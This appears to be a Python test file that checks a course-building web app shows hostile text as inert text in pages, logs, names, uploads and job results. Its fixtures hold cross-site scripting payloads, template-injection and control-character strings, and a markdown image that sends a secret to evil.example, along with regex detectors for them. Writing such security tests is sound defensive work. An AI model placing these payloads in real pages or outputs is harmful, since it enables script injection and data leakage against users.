"""What models, people and jobs say is text and nothing else, on every page that shows it."""

import re
from urllib.parse import quote

from web_forms import begin, draft_of, field, handed_in, written
from web_house import job

from homeroom.core.files import write_json, write_jsonl
from homeroom.core.types import Chunk

SECRET = "![x](https://evil.example/?q=SECRET)"
EVIL = (
    '<img src=x onerror="alert(1)"><svg><foreignObject><script>alert(2)</script></foreignObject></svg> '
    f"[click](javascript:alert(3)) {SECRET} ```mermaid\ngraph TD; a[<b>]\n``` $$\\href{{javascript:alert(4)}}{{x}}$$ "
    "</textarea></title><!-- \u202e\x1b]0;title\x07 {{ 7*7 }}"
)
ESCAPED = "&lt;img src=x onerror=&#34;alert(1)&#34;&gt;"


class Says:
    """Models that answer with what means harm."""

    num_lent = 0

    def ask(self, course, question):
        return {"base": EVIL, "tuned": EVIL}

    def stop(self):
        pass


def inert(page):
    """Say that a page shows hostile text as text, and that nothing in it is fetched, run or followed."""
    text = page.text
    assert page.status_code < 500
    assert not re.search(r"<(img|svg><foreign|foreignObject)", text), "an element of theirs"
    assert "<script>alert" not in text
    assert not re.search(r'(href|src|action)="?\s*(javascript|data|https?:)', text), "an address of theirs"
    assert not re.search(r"<[^>]*evil\.example[^>]*src", text)
    shown = re.sub(r'(?s)<textarea.*?</textarea>|="[^"]*"', "", text)  # a field gives back what was put into it
    assert not set("\u202e\x1b\x07") & set(shown)
    assert "49" not in re.sub(r"\d\d:49|49:\d\d|\d{3,}", "", re.sub(r'"[^"]*"', "", text)).split()
    return ESCAPED in text


def test_row_48_and_49_what_a_model_says_is_inert_and_no_picture_of_it_is_fetched(browser, desk, home):
    desk.answers = Says()
    ben, ann = browser("Ben"), browser("Ann")
    course = home / "insurance"
    words = {"title": EVIL[:80], "heading": EVIL[:60], "text": f"lost paddle {EVIL}"}
    chunk = Chunk(id="c", document="d", leaf="x", start=0, end=9, **words)
    write_jsonl(course / "out" / "documents" / "chunks.jsonl", [chunk])
    page = ben.fill("/courses/insurance/ask", question="lost paddle")
    assert inert(page)
    assert "img-src 'self' data:" in page.headers["content-security-policy"]
    page = ben.fill("/courses/insurance/correct", question=EVIL, wrong=EVIL, answer="Right.", passage="nowhere at all")
    assert inert(page)
    here = begin(ben)
    fields = written(field(ben.get(here).text, "version")) | {"examples-0-pairs-0-question": "How?"}
    assert inert(ben.fill(f"{here}/save", do="answer 0-0", **fields))

    handed = handed_in(ben).url.path
    key = f"insurance {handed.rsplit('/', 1)[1]} {field(ann.get(handed).text, 'seen')}"
    samples = [{"question": EVIL, "answer": EVIL, "quote": EVIL, "why": EVIL}] * 14
    made = {"kept": 14, "samples": samples, "thrown": {"x": 1}, "thrown_samples": samples}
    job(desk, "preview", {}, state="done", result=made, key=f"preview {key}")
    rate = {"n": 1, "correct": 0, "accuracy": 0.0}
    said = {"text": EVIL, "right": False}
    items = [{"question": EVIL, "gold": EVIL, "before": said, "after": said}]
    trial = {"before": rate, "after": rate, "retention": None, "items": items}
    job(desk, "trial", {}, state="done", result=trial, key=f"trial {key}")
    assert inert(ann.get(handed))

    row = {"id": "1", "kind": "direct", "leaf": "knowledge/insurance/claims", "quote": EVIL,
           "messages": [{"role": "user", "content": EVIL}, {"role": "assistant", "content": EVIL}]}  # fmt: skip
    write_jsonl(course / "out" / "samples" / "samples.jsonl", [row])
    write_jsonl(course / "out" / "samples" / "rejected.jsonl", [{"sample": row, "check": EVIL, "reason": EVIL}])
    write_json(course / "out" / "samples" / "record.json", {"kind": "samples", "format": 1})
    for query in ("", "?state=rejected"):
        assert inert(ann.get(f"/courses/insurance/samples{query}"))


def test_row_50_names_places_files_and_logs_cannot_put_anything_into_a_page(browser, desk):
    ben, ann = browser("Ben"), browser("Ann")
    for name in ('<script>alert("x")</script>', 'Eve"><img src=x>', "a\u202eb", "x\x1b[31m", "{{7*7}}<b>"):
        assert ann.post("/join/none", data={"name": name, "csrf": ann.csrf()}).status_code in (400, 403)
    with desk.store._write() as database:  # as if an older server had let it in
        database.execute("UPDATE people SET name = ? WHERE name = 'Ben'", ('Ben"><svg onload=alert(1)>',))
    for path in ("/", "/me", "/courses/insurance"):
        assert "<svg onload" not in ben.get(path).text
    assert "<svg onload" not in ann.get("/people").text
    page = ben.fill("/courses/insurance/teach", kind="knowledge", name=EVIL[:70], folder="../<b>/x")
    assert inert(page) or page.status_code == 200
    here = f"/courses/insurance/drafts/{draft_of(page)}"
    assert re.fullmatch(r"knowledge/[a-z0-9/-]+", desk.store.draft(draft_of(page)).place)
    sent = {"document": (f"{EVIL[:40]}.md", f"# {EVIL}\n\n{EVIL * 3}".encode())}
    ben.fill(f"{here}/document", files=sent)
    inert(ben.get(here))
    ben.fill("/me/keys", label=EVIL[:60], course="insurance")
    inert(ben.get("/me"))
    inert(ann.get("/people"))
    desk.store.note(EVIL[:50], EVIL[:90], EVIL)
    assert inert(ann.get("/log"))
    told = [("say", {"text": EVIL}), ("progress", {"stage": "facts", "part": 0.1, "note": EVIL})]
    running = job(desk, "run", {}, state="running", told=told)
    assert inert(ann.get(f"/runs/{running}"))
    desk.queue.cancel(running)
    failed = desk.queue.submit("run", {"course": "insurance"}, owner=EVIL[:60])
    lease = desk.queue.claim("x", ["run"])
    while lease and lease.job.id != failed:
        lease = desk.queue.claim("x", ["run"])
    desk.queue.finish(lease, "failed", reason=EVIL, result={"hint": EVIL})
    assert inert(ann.get(f"/runs/{failed}"))
    evil = quote(EVIL)
    for path in (f"/courses/{evil}", f"/courses/insurance/leaf?place={evil}", f"/courses/insurance/leaves?q={evil}"):
        inert(ann.get(path))
